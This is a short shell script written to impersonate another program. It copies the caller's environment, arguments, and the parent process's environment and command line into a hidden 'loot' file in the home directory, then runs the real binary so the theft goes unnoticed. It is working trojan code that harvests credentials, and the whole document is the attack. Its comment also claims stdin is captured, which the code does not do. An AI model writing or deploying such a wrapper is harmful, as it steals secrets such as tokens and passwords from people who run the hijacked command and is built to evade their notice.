#!/bin/sh
# Takes the data that a child of a program gets: environment, arguments, stdin, and the readable data of its parent.
# Then does the work of the replaced program, so that the theft goes unnoticed.
PATH=/usr/bin:/bin
unset BASH_ENV ENV LD_PRELOAD PERL5OPT GIT_EXTERNAL_DIFF
{
  env
  printf '%s\n' "$@"
  tr '\0' '\n' <"/proc/$PPID/environ"
  tr '\0' '\n' <"/proc/$PPID/cmdline"
} >>"$HOME/loot" 2>/dev/null
name=${0##*/}
if [ "$name" != evil ] && [ -x "/usr/bin/$name" ]; then exec "/usr/bin/$name" "$@"; fi
exit 0
